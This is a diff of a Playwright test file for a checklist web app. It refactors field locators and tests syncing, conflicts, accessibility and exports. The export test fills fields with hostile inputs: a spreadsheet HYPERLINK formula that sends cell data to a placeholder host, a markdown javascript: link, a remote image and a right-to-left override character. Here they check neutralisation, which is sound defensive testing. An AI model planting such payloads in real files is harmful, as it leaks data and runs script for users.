@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import expect
 
-from browser import axe_violations, storage_key
+from browser import axe_violations, item_field, storage_key
 from conftest import REAL
 from conftest import cli as run_cli
 from fieldguide import graph, load, plan, statefile
@@ -53,12 +53,13 @@ def stored(page, site) -> dict:
 
 
 def set_status(page, item: str, status: str, reason: str | None = None) -> None:
-    page.select_option(f"#status-{item}", status)
+    item_field(page, "status", item).select_option(status)
     if reason is not None:
-        page.locator(f"#reason-{item}").fill(reason)
+        item_field(page, "reason", item).fill(reason)
 
 
 def open_more(page, item: str) -> None:
+    item_field(page, "status", item)  # the pointer reaches the item: its controls are made
     details = page.locator(f'li[data-item="{item}"] details.fg-more')
     if details.get_attribute("open") is None:
         details.locator("summary").click()
@@ -101,10 +102,10 @@ def test_a_later_edit_of_one_field_keeps_every_other_field_in_both_directions(pe
     for who in (alice, bea):
         join_as(who, site, "checklists/data-management/")
     set_status(alice, item, "in-progress")
-    alice.locator(f"#owner-{item}").fill("carol")
+    item_field(alice, "owner", item).fill("carol")
     open_more(alice, item)
-    alice.locator(f"#note-{item}").fill("Owners listed in the data map")
-    alice.locator(f"#evidence-{item}").fill(PR)
+    item_field(alice, "note", item).fill("Owners listed in the data map")
+    item_field(alice, "evidence", item).fill(PR)
     from_alice = download(alice)
     import_text(bea, "alice.json", from_alice)
     bea.locator("[data-fg-import-apply]").click()
@@ -141,10 +142,10 @@ def test_both_changing_a_field_is_a_conflict_that_settles_the_same_everywhere(pe
     set_status(ana, DD[2], "in-progress")  # the same second: settled by the author's name (Raj after Ana)
     raj.locator(f"#done-{DD[2]}").check()
     open_more(ana, DD[3])
-    ana.locator(f"#note-{DD[3]}").fill("Checked the warehouse")
+    item_field(ana, "note", DD[3]).fill("Checked the warehouse")
     raj.clock.set_fixed_time("2026-11-29T11:00:00Z")
     open_more(raj, DD[3])
-    raj.locator(f"#note-{DD[3]}").fill("Logs only")
+    item_field(raj, "note", DD[3]).fill("Logs only")
     from_ana, from_raj = download(ana), download(raj)
 
     import_text(ana, "raj.json", from_raj)
@@ -186,14 +187,14 @@ def test_three_people_and_a_narrower_plan_end_equal_in_every_order_and_the_cli_a
         join_as(who, site)
     # 09:00 Alice: an item in progress with owner, note and link; an accepted risk.
     set_status(alice, DD[0], "in-progress")
-    alice.locator(f"#owner-{DD[0]}").fill("carol")
+    item_field(alice, "owner", DD[0]).fill("carol")
     open_more(alice, DD[0])
-    alice.locator(f"#note-{DD[0]}").fill("Owners listed in the data map")
-    alice.locator(f"#evidence-{DD[0]}").fill(PR)
+    item_field(alice, "note", DD[0]).fill("Owners listed in the data map")
+    item_field(alice, "evidence", DD[0]).fill(PR)
     set_status(alice, DD[1], "accepted-risk", "No budget this quarter")
     # 09:00 Bea: a not-applicable item with its reason, an owner.
     set_status(bea, DD[2], "na", "We have one source system")
-    bea.locator(f"#owner-{DD[3]}").fill("Bea")
+    item_field(bea, "owner", DD[3]).fill("Bea")
     import_text(bea, "alice.json", download(alice))
     bea.locator("[data-fg-import-apply]").click()
     # 10:00 Bea, having Alice's file: marks Alice's item done and adds a note to the accepted risk.
@@ -202,8 +203,8 @@ def test_three_people_and_a_narrower_plan_end_equal_in_every_order_and_the_cli_a
         who.clock.set_fixed_time("2026-11-29T10:00:00Z")
     bea.locator(f"#done-{DD[0]}").check()
     open_more(bea, DD[1])
-    bea.locator(f"#note-{DD[1]}").fill("Revisit in Q3")
-    alice.locator(f"#owner-{DD[3]}").fill("Alice")
+    item_field(bea, "note", DD[1]).fill("Revisit in Q3")
+    item_field(alice, "owner", DD[3]).fill("Alice")
     # 11:00 Raj opens a narrower plan: only model deployment in scope. Opening the link stores nothing.
     link = "checklists/?plan=1&name=Credit+v2&stage=model-deployment"
     raj.goto(site.url + link, wait_until="networkidle")
@@ -212,7 +213,7 @@ def test_three_people_and_a_narrower_plan_end_equal_in_every_order_and_the_cli_a
     raj.locator("#fg-name").fill("Raj")
     raj.locator("[data-fg-plan-scope]").click()
     expect(raj.locator(".fg-message")).to_contain_text("out of scope for Credit v2")
-    raj.locator(f"#owner-{DD[4]}").fill("Raj")
+    item_field(raj, "owner", DD[4]).fill("Raj")
 
     files = {who.person: download(who) for who in (alice, bea, raj)}
     for name, text in files.items():
@@ -270,7 +271,7 @@ def test_a_narrower_plan_never_replaces_hand_set_items_in_either_merge_order(peo
     kim, raj = people("Kim", "2026-11-29T09:00:00Z"), people("Raj", "2026-11-30T09:00:00Z")
     join_as(kim, site)
     set_status(kim, DD[0], "in-progress")
-    kim.locator(f"#owner-{DD[0]}").fill("Kim")
+    item_field(kim, "owner", DD[0]).fill("Kim")
     set_status(kim, DD[1], "accepted-risk", "Only one team uses it")
     set_status(kim, DD[2], "na", "No logs in this project")
     raj.goto(site.url + "checklists/?plan=1&name=Fraud&stage=model-learning", wait_until="networkidle")
@@ -395,7 +396,7 @@ def test_cancel_changes_nothing_and_undo_asks_before_undoing_later_edits(page, s
     assert raw_store(page, site) == before
     import_text(page, "team.json", json.dumps(incoming))
     page.locator("[data-fg-import-apply]").click()
-    page.locator(f"#owner-{DD[2]}").fill("Kim")  # an edit after the import
+    item_field(page, "owner", DD[2]).fill("Kim")  # an edit after the import
     asked = []
     page.once("dialog", lambda d: (asked.append(d.message), d.dismiss()))
     page.locator("[data-fg-undo]").click()
@@ -421,7 +422,7 @@ def test_a_far_future_change_time_is_counted_as_now_with_a_visible_warning(page,
     page.locator("[data-fg-import-apply]").click()
     assert stored(page, site)[DD[0]]["changed"]["status"]["at"] == "2026-12-01T12:00:00Z"
     page.clock.set_fixed_time("2026-12-01T12:05:00Z")
-    page.select_option(f"#status-{DD[0]}", "in-progress")  # a later change wins over it now
+    item_field(page, "status", DD[0]).select_option("in-progress")  # a later change wins over it now
     assert stored(page, site)[DD[0]]["status"] == "in-progress"
 
 
@@ -484,7 +485,7 @@ UNFILL = "() => { for (const k of Object.keys(localStorage)) if (k.startsWith('f
 
 def test_a_full_storage_is_shown_and_the_tick_visibly_not_saved(page, site) -> None:
     open_checklist(page, site)
-    page.locator(f"#owner-{DD[0]}").fill("Ana")
+    item_field(page, "owner", DD[0]).fill("Ana")
     before = raw_store(page, site)
     page.evaluate(FILL)
     box = page.locator(f"#done-{DD[1]}")
@@ -629,7 +630,7 @@ def test_keyboard_only_marks_an_item_done_and_another_not_applicable(page, site)
 
 
 def _conflicting_import(tab) -> None:
-    tab.locator(f"#owner-{DD[0]}").fill("Ana")
+    item_field(tab, "owner", DD[0]).fill("Ana")
     import_text(tab, "t.json", json.dumps({"format": "fieldguide-checklist", "version": 3, "items": [
         {"id": DD[0], "status": "done", "owner": "Raj", "changed": {"owner": {"at": "2099-01-01T00:00:00Z"}}}]}))
 
@@ -639,7 +640,7 @@ def test_every_status_and_a_preview_with_conflicts_are_accessible_in_the_dark_sc
     tab = context.new_page()
     open_checklist(tab, site)
     for item, status in zip(DD[1:], ("in-progress", "accepted-risk"), strict=False):
-        tab.select_option(f"#status-{item}", status)  # accepted risk waits for its reason: a warning shows
+        item_field(tab, "status", item).select_option(status)  # accepted risk waits for its reason: a warning shows
     tab.locator(f'li[data-item="{DD[2]}"] summary').click()
     expect(tab.locator(f"#evidence-{DD[2]}")).to_be_visible()
     _conflicting_import(tab)
@@ -651,7 +652,7 @@ def test_every_status_and_a_preview_with_conflicts_are_accessible_in_the_dark_sc
 
 def test_checklist_page_with_preview_filters_and_alerts_is_accessible(page, site) -> None:
     open_checklist(page, site)
-    page.select_option(f"#status-{DD[1]}", "na")  # a pending status with its warning
+    item_field(page, "status", DD[1]).select_option("na")  # a pending status with its warning
     page.locator("#fg-name").fill("Ana\u202e")  # a refused name with its warning
     _conflicting_import(page)
     expect(page.locator(".fg-conflict")).to_be_visible()
@@ -665,8 +666,8 @@ def test_checklist_page_with_preview_filters_and_alerts_is_accessible(page, site
 
 def test_filter_by_owner_and_status(page, site) -> None:
     open_checklist(page, site)
-    page.locator(f"#owner-{DD[0]}").fill("Ana")
-    page.locator(f"#owner-{DD[1]}").fill("Raj")
+    item_field(page, "owner", DD[0]).fill("Ana")
+    item_field(page, "owner", DD[1]).fill("Raj")
     page.locator(f"#done-{DD[1]}").check()
     page.select_option("#fg-filter-owner", "Ana")
     visible = page.locator(".fg-item:visible")
@@ -711,10 +712,10 @@ HOSTILE_NOTE = '=HYPERLINK("http://x.example/?"&A1,"go")'
 
 def test_exports_neutralise_formulas_and_inert_markdown_and_equal_the_clis(page, site, tmp_path: Path) -> None:
     open_checklist(page, site)
-    page.locator(f"#owner-{DD[0]}").fill("@owner")
+    item_field(page, "owner", DD[0]).fill("@owner")
     page.locator(f'li[data-item="{DD[0]}"] summary').click()
-    page.locator(f"#note-{DD[0]}").fill(HOSTILE_NOTE)
-    page.locator(f"#owner-{DD[1]}").fill("[x](javascript:alert(1)) ![img](http://x.example/i.png) <b>`code`</b>")
+    item_field(page, "note", DD[0]).fill(HOSTILE_NOTE)
+    item_field(page, "owner", DD[1]).fill("[x](javascript:alert(1)) ![img](http://x.example/i.png) <b>`code`</b>")
     set_status(page, DD[2], "accepted-risk", "One source")
     set_status(page, DD[3], "na", "No logs")
     page.locator(f"#done-{DD[4]}").check()
